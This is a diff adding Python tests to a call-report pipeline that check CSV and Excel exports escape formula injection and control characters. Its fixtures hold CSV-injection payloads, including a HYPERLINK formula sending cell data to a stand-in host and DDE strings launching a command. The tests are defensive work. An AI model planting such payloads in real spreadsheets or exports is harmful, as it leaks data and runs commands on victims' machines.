@@ -71,3 +71,102 @@ def test_a_run_stopped_by_a_full_disk_exits_1(tmp_path):
         )
     assert "STOPPED" in out.stdout and "full" in out.stdout, out.stdout + out.stderr[-2000:]
     assert out.returncode == 1, out.stdout
+
+
+# --------------------------------------------------------------------------- 6/7. reports
+
+HOSTILE_NAMES = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "Bob\x00Stone",
+    "Eve\x1b[31m",
+    "$\\frac{1}{$ Mathtext $",
+]
+
+
+@pytest.fixture()
+def hostile_store(tmp_path):
+    """The coaching test archive with a hostile agent name and team on every call (stored
+    values as an older version or another tool may have written them)."""
+    from sqlalchemy import text
+
+    from tests.builders import build_archive
+
+    archive = build_archive(tmp_path)
+    with archive.store.engine.begin() as db:
+        ids = [r[0] for r in db.execute(text("SELECT call_id FROM calls ORDER BY call_id"))]
+        for i, call_id in enumerate(ids):
+            name = HOSTILE_NAMES[i % len(HOSTILE_NAMES)]
+            db.execute(
+                text("UPDATE calls SET agent_name = :n, team = :t WHERE call_id = :c"),
+                {"n": name, "t": HOSTILE_NAMES[(i + 5) % len(HOSTILE_NAMES)], "c": call_id},
+            )
+    return archive
+
+
+def _formula_like(value) -> bool:
+    return isinstance(value, str) and value.startswith(("=", "+", "-", "@", "\t", "\r"))
+
+
+def test_report_never_carries_a_formula_nor_dies_on_a_control_character(hostile_store, tmp_path):
+    import csv
+
+    from click.testing import CliRunner
+    from openpyxl import load_workbook
+
+    from pipeline.cli import cli
+
+    out = tmp_path / "report"
+    res = CliRunner().invoke(cli, ["report", "--db", hostile_store.url, "--out", str(out)])
+    assert res.exit_code == 0, res.output + repr(res.exception)
+    seen = set()
+    for name in ("agents.csv", "teams.csv", "calls.csv"):
+        with (out / name).open(newline="", encoding="utf-8") as fh:
+            for row in csv.reader(fh):
+                for cell in row:
+                    assert not _formula_like(cell), (name, cell)
+                    assert "\x00" not in cell and "\x1b" not in cell, (name, cell)
+                    seen.add(cell)
+    assert '\'=HYPERLINK("http://evil.example/?x="&A1,"click")' in seen  # kept, as text
+    assert "Bob\\x00Stone" in seen  # the NUL shown, not dropped silently
+    book = load_workbook(out / "report.xlsx")
+    cells = 0
+    for sheet in book.worksheets:
+        for row in sheet.iter_rows():
+            for c in row:
+                cells += 1
+                assert c.data_type != "f", (sheet.title, c.coordinate, c.value)
+                assert not _formula_like(c.value), (sheet.title, c.coordinate, c.value)
+    assert cells > 50
+
+
+@pytest.mark.parametrize(
+    "value, cell",
+    [
+        ("=1+1", "'=1+1"),
+        ("+1", "'+1"),
+        ("-1", "'-1"),
+        ("@A1", "'@A1"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("a=1", "a=1"),
+        ("Bob\x00", "Bob\\x00"),
+        ("\x00=1", "\\x00=1"),
+        ("x" * 40_000, "x" * 32_767),
+        (float("inf"), None),
+        (float("nan"), None),
+        (-1.5, -1.5),
+        (3, 3),
+        (None, None),
+    ],
+)
+def test_cells_escape_formulas_the_owasp_way(value, cell):
+    from pipeline.cells import safe_cell
+
+    got = safe_cell(value)
+    assert got == cell or (got is None and cell is None), (value, got)
+
